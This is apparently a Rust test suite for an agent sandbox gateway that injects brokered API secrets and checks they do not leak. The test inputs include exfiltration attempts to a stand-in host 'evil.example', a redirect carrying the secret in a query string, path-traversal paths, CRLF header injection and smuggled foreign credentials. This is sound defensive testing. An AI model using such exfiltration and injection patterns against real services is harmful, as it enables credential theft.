//! Secrets that the gateway adds: where they go, where they do not, and that they do not come back.

use std::sync::{Arc, Mutex};

use futures::{FutureExt as _, future::BoxFuture};
use glovebox::{
    api::{AgentSandbox, ClassEgress},
    gateway::{
        broker::{Fetched, Lack, Secret, Source},
        tenant::{Identity, Limits},
    },
    policy::{ClusterRanges, Credential, Policy, placeholder},
};
use jiff::Timestamp;
use serde_json::{Value, json};
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};

use crate::{
    fakes::AGREED,
    http::refusal,
    world::{ANSWER, SANDBOX, Setup, World, from, handshake, soon},
};

const SECRET: &str = "sk-test-0123456789";

/// Has one secret, which may change.
struct Has(Mutex<Result<&'static str, Lack>>);

impl Source for Has {
    fn fetch<'a>(
        &'a self,
        _: &'a Identity,
        _: &'a Credential,
        _: bool,
    ) -> BoxFuture<'a, Result<Fetched, Lack>> {
        let answer = self.0.lock().unwrap().clone().and_then(|text| {
            let secret =
                Secret::new(text.as_bytes().to_vec()).map_err(|why| Lack::Gone(format!("the key {why}")))?;
            Ok(Fetched { secret, fresh: std::time::Duration::ZERO, good: None })
        });
        std::future::ready(answer).boxed()
    }
}

struct Brokered {
    world: World,
    has: Arc<Has>,
}

fn ours() -> String {
    placeholder("uid-one", "api")
}

impl Brokered {
    async fn new(answer: &'static str) -> Self {
        Self::with(answer, json!([credential(json!({}))]), json!({})).await
    }

    async fn with(answer: &'static str, credentials: Value, rule: Value) -> Self {
        let has = Arc::new(Has(Mutex::new(Ok(SECRET))));
        let world = World::made(Setup { secrets: has.clone(), answer, ..Setup::default() }).await;
        let port = world.tls.0.port();
        let mut allow =
            json!({"name": "secure", "hosts": ["secure.example", "wrong.example"], "ports": [port]});
        for (key, value) in rule.as_object().unwrap() {
            allow[key] = value.clone();
        }
        let mut credentials = credentials;
        for one in credentials.as_array_mut().unwrap() {
            one["ports"] = json!([port]);
        }
        let web = json!({"name": "web", "hosts": ["web.example"], "ports": [world.http.0.port()], "protocol": "HTTP"});
        let sandbox: AgentSandbox = serde_json::from_value(json!({
            "apiVersion": "glovebox.dev/v1alpha1", "kind": "AgentSandbox",
            "metadata": {"name": "one", "namespace": "team", "uid": "uid-one"},
            "spec": {"image": "x", "egress": {"allow": [allow, web]}, "credentials": credentials},
        }))
        .unwrap();
        let (class, cluster) = (ClassEgress::default(), ClusterRanges::default());
        let policy = Policy::effective(&sandbox, &[], &[], &class, &cluster).unwrap();
        let _ = world.tenant.swap(&Arc::new(policy), Limits::default(), Timestamp::now());
        Self { world, has }
    }

    async fn to(&self, host: &str, text: &str) -> String {
        let stream = from(SANDBOX, self.world.at.tls).await;
        let mut stream = handshake(stream, host, &self.world.ca_roots).await.unwrap();
        stream.write_all(text.as_bytes()).await.unwrap();
        let mut bytes = Vec::new();
        let _ = soon(stream.read_to_end(&mut bytes)).await;
        String::from_utf8(bytes).unwrap()
    }

    /// A request with these fields, and what was answered.
    async fn ask(&self, line: &str, fields: &str) -> String {
        self.to("secure.example", &format!("{line} HTTP/1.1\r\nHost: secure.example\r\n{fields}\r\n")).await
    }

    fn got(&self) -> Vec<String> {
        std::mem::take(&mut *self.world.secure.lock().unwrap())
    }
}

fn credential(more: Value) -> Value {
    let mut one = json!({"name": "api", "hosts": ["secure.example"], "secretRef": {"name": "s", "key": "k"}});
    for (key, value) in more.as_object().unwrap() {
        one[key] = value.clone();
    }
    one
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_secret_is_put_where_it_belongs_and_nothing_else_there() {
    let brokered = Brokered::new(ANSWER).await;
    let port = brokered.world.tls.0.port();
    let want = format!(
        "GET /ok HTTP/1.1\r\nHost: secure.example:{port}\r\nX: y\r\nAuthorization: Bearer {SECRET}\r\nAccept-Encoding: identity\r\nConnection: close\r\n\r\n"
    );
    let fields = [
        "X: y\r\n".to_owned(),
        format!("X: y\r\nAuthorization: Bearer {}\r\n", ours()),
        "X: y\r\nauthorization: Bearer somebody's own\r\nAUTHORIZATION: another\r\n".to_owned(),
        "X: y\r\nRange: bytes=0-3\r\nIf-Range: z\r\nRequest-Range: a\r\nx-ms-range: b\r\nAccept-Encoding: gzip\r\n".to_owned(),
    ];
    for fields in fields {
        let answer = brokered.ask("GET /ok", &fields).await;
        assert!(answer.starts_with("HTTP/1.1 200 "), "{answer}");
        assert_eq!(brokered.got(), [want.as_str()], "{fields}");
    }
    assert!(brokered.world.alarms.all().is_empty());
    let metrics = brokered.world.metrics().await;
    assert!(metrics.contains("glovebox_gateway_credentials_total 4"), "{metrics}");
    assert!(!metrics.contains(SECRET));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_placeholder_is_worth_nothing_elsewhere_and_its_use_is_severe() {
    let brokered = Brokered::new(ANSWER).await;
    let (world, ours) = (&brokered.world, ours());
    let text = format!("GET /ok HTTP/1.1\r\nHost: wrong.example\r\nX: {ours}\r\n\r\n");
    let answer = brokered.to("wrong.example", &text).await;
    assert_eq!(refusal(&answer)["reason"], "CredentialElsewhere", "{answer}");
    // A host that no rule names, without encryption, in a path.
    let text = format!("GET /{ours} HTTP/1.1\r\nHost: evil.example\r\n\r\n");
    let answer = crate::world::ask(SANDBOX, world.at.http, &text).await;
    assert_eq!(refusal(&answer)["reason"], "CredentialElsewhere", "{answer}");
    let severe = world.alarms.all();
    assert!(
        severe.len() == 2 && severe.iter().all(|(reason, _)| reason == "CredentialElsewhere"),
        "{severe:?}"
    );
    assert!(world.authority.asked().is_empty() && world.requests().is_empty());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn beside_its_paths_it_is_not_added() {
    let one = credential(json!({"paths": ["/v1/**"]}));
    let brokered = Brokered::with(ANSWER, json!([one]), json!({})).await;
    assert!(brokered.ask("GET /v1/x?a=b", "").await.starts_with("HTTP/1.1 200 "));
    assert!(brokered.got()[0].contains(SECRET));
    for path in ["/v2/x", "/v1/../v2", "/v1/%2e%2e/v2"] {
        assert!(brokered.ask(&format!("GET {path}"), "").await.starts_with("HTTP/1.1 200 "), "{path}");
        assert!(!brokered.got()[0].contains(SECRET), "{path}");
        let fields = format!("Authorization: Bearer {}\r\n", ours());
        let answer = brokered.ask(&format!("GET {path}"), &fields).await;
        assert_eq!(refusal(&answer)["reason"], "CredentialMisplaced", "{answer}");
    }
    // Who gives back what it was asked with would give back the secret.
    let answer = brokered.ask("TRACE /v1/x", "").await;
    assert_eq!(refusal(&answer)["reason"], "CredentialMisplaced", "{answer}");
    assert!(brokered.got().is_empty() && brokered.world.alarms.all().is_empty());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_host_that_can_not_prove_its_name_gets_none() {
    let one = credential(json!({"hosts": ["wrong.example"]}));
    let brokered = Brokered::with(ANSWER, json!([one]), json!({})).await;
    let answer = brokered.to("wrong.example", "GET / HTTP/1.1\r\nHost: wrong.example\r\n\r\n").await;
    assert_eq!(refusal(&answer)["reason"], "Untrusted", "{answer}");
    assert!(brokered.world.metrics().await.contains("glovebox_gateway_credentials_total 0"));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn where_brokered_ones_are_required_the_workloads_own_are_refused() {
    let rule = json!({"protocol": "HTTPS", "requireBrokered": true});
    let brokered = Brokered::with(ANSWER, json!([credential(json!({}))]), rule).await;
    for (line, fields) in [
        ("GET /ok", "Authorization: Bearer attacker's\r\n"),
        ("GET /ok", "X-Api-Key: attacker's\r\n"),
        ("PUT /ok?X-Amz-Signature=x", ""),
        ("GET /ok?access_token=x", ""),
    ] {
        let answer = brokered.ask(line, fields).await;
        assert_eq!(refusal(&answer)["reason"], "CredentialForeign", "{answer}");
        assert_eq!(refusal(&answer)["rule"], "secure");
    }
    assert!(brokered.got().is_empty());
    assert_eq!(brokered.world.alarms.all().len(), 1, "each kind is told once");
    let answer = brokered.ask("GET /ok", &format!("Authorization: Bearer {}\r\n", ours())).await;
    assert!(answer.starts_with("HTTP/1.1 200 ") && brokered.got()[0].contains(SECRET), "{answer}");
    // What stands for one is no cloak for another.
    let cloaked = format!("X-Api-Key: attacker's {}\r\n", ours());
    assert_eq!(refusal(&brokered.ask("GET /ok", &cloaked).await)["reason"], "CredentialForeign");
    // Cookies go, since honest clients give back what they were given.
    let answer = brokered.ask("GET /ok", "Cookie: session=attacker's\r\n").await;
    assert!(answer.starts_with("HTTP/1.1 200 ") && !brokered.got()[0].contains("attacker"), "{answer}");
    let answer = brokered.ask("GET /ok?key=x", "").await;
    assert_eq!(refusal(&answer)["reason"], "CredentialDoubtful");
    assert_eq!(brokered.world.alarms.all().len(), 1, "it may be an honest one");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn what_is_echoed_is_taken_out_however_it_comes() {
    const LENGTH: &str = "HTTP/1.1 302 Found\r\nLocation: https://evil.example/?t=sk-test-0123456789\r\nContent-Length: 29\r\n\r\nyou said sk-test-0123456789 !";
    const CHUNKS: &str = "HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n9\r\nyou sk-te\r\n4\r\nst-0\r\n13\r\n123456789 and sk-te\r\n0\r\n\r\n";
    const TO_THE_END: &str = "HTTP/1.1 200 OK\r\n\r\nyou said sk-test-0123456789 ! sk-";
    let stars = "*".repeat(SECRET.len());
    let body = |answer: &str| answer.split_once("\r\n\r\n").unwrap().1.to_owned();
    let answer = Brokered::new(LENGTH).await.ask("GET /ok", "").await;
    assert!(answer.contains(&format!("Location: https://evil.example/?t={stars}\r\n")), "{answer}");
    assert_eq!(body(&answer), format!("you said {stars} !"));
    let answer = Brokered::new(CHUNKS).await.ask("GET /ok", "").await;
    let text = body(&answer);
    let payload: String = text.split("\r\n").skip(1).step_by(2).collect();
    assert_eq!(payload, format!("you {stars} and sk-te"), "{text:?}");
    assert!(text.ends_with("\r\n0\r\n\r\n"), "{text:?}");
    // The server keeps the connection open: what is known to be clean is there at once.
    let closing = Brokered::new(TO_THE_END).await;
    let stream = from(SANDBOX, closing.world.at.tls).await;
    let mut stream = handshake(stream, "secure.example", &closing.world.ca_roots).await.unwrap();
    stream.write_all(b"GET /ok HTTP/1.1\r\nHost: secure.example\r\n\r\n").await.unwrap();
    let want = format!("HTTP/1.1 200 OK\r\nConnection: close\r\n\r\nyou said {stars} ! ");
    let mut bytes = vec![0; want.len()];
    soon(stream.read_exact(&mut bytes)).await.unwrap();
    assert_eq!(String::from_utf8(bytes).unwrap(), want);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_answer_that_can_not_be_searched_does_not_arrive() {
    const EMPTY: &str = "HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\nContent-Length: 5\r\n\r\n";
    const GZIP: &str = "HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\nContent-Length: 5\r\n\r\nhello";
    let brokered = Brokered::new(GZIP).await;
    let answer = brokered.ask("GET /ok", "").await;
    assert!(answer.starts_with("HTTP/1.1 502 "), "{answer}");
    assert_eq!(refusal(&answer)["reason"], "AnswerEncoded");
    for part in [
        "HTTP/1.1 206 Partial Content\r\nContent-Length: 5\r\n\r\nhello",
        "HTTP/1.1 200 OK\r\nContent-Range: bytes 0-4/50\r\nContent-Length: 5\r\n\r\nhello",
        "HTTP/1.1 200 OK\r\nContent-Type: multipart/byteranges; boundary=x\r\nContent-Length: 5\r\n\r\nhello",
    ] {
        let answer = Brokered::new(part).await.ask("GET /ok", "").await;
        assert_eq!(refusal(&answer)["reason"], "AnswerEncoded", "{answer}");
    }
    // Where there is no body, nothing hides in it.
    assert!(Brokered::new(EMPTY).await.ask("HEAD /ok", "").await.starts_with("HTTP/1.1 200 "));
    // Where nothing was added, it is nobody's affair.
    let without = Brokered::with(GZIP, json!([]), json!({"protocol": "HTTPS"})).await;
    assert!(without.ask("GET /ok", "").await.ends_with("hello"));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_websocket_gets_none() {
    let brokered = Brokered::new(ANSWER).await;
    let answer = brokered.ask("GET /ok", "Connection: Upgrade\r\nUpgrade: websocket\r\n").await;
    assert_eq!(refusal(&answer)["reason"], "CredentialMisplaced", "{answer}");
    let without = Brokered::with(ANSWER, json!([]), json!({"protocol": "HTTPS"})).await;
    let stream = from(SANDBOX, without.world.at.tls).await;
    let mut stream = handshake(stream, "secure.example", &without.world.ca_roots).await.unwrap();
    let text =
        "GET /ok HTTP/1.1\r\nHost: secure.example\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n";
    stream.write_all(text.as_bytes()).await.unwrap();
    let mut agreed = vec![0; AGREED.len()];
    soon(stream.read_exact(&mut agreed)).await.unwrap();
    assert!(brokered.got().is_empty() && without.got().len() == 1);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_secret_that_changes_counts_from_the_next_request_on_and_one_that_goes_as_well() {
    let brokered = Brokered::new(ANSWER).await;
    let set = |answer| *brokered.has.0.lock().unwrap() = answer;
    brokered.ask("GET /ok", "").await;
    assert!(brokered.got()[0].contains(SECRET));
    set(Ok("sk-test-rotated-9"));
    brokered.ask("GET /ok", "").await;
    assert!(brokered.got()[0].contains("Bearer sk-test-rotated-9\r\n"));
    for (bad, words) in [
        (Ok("sk-test-\r\nX: y"), "line break at byte 8"),
        (Ok("short"), "shorter than"),
        (Err(Lack::Gone("Secret \"s\" is not there".into())), "Secret \\\"s\\\" is not there"),
    ] {
        set(bad);
        tokio::time::sleep(std::time::Duration::from_millis(1100)).await;
        let answer = brokered.ask("GET /ok", "").await;
        assert!(answer.starts_with("HTTP/1.1 503 ") && answer.contains(words), "{answer}");
        assert_eq!(refusal(&answer)["reason"], "CredentialUnavailable");
        assert!(!answer.contains("sk-test") && brokered.got().is_empty());
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn several_go_into_fields_of_their_own() {
    let credentials = json!([
        credential(json!({"name": "key", "header": "X-Api-Key"})),
        credential(json!({"name": "first", "prefix": "token "})),
        credential(json!({"name": "second"})),
    ]);
    let brokered = Brokered::with(ANSWER, credentials, json!({})).await;
    brokered.ask("GET /ok", "x_api_key: own\r\n").await;
    let got = brokered.got().remove(0);
    assert!(got.contains(&format!("X-Api-Key: {SECRET}\r\nAuthorization: token {SECRET}\r\n")), "{got}");
    assert!(!got.contains("own") && !got.contains("Bearer"), "{got}");
}
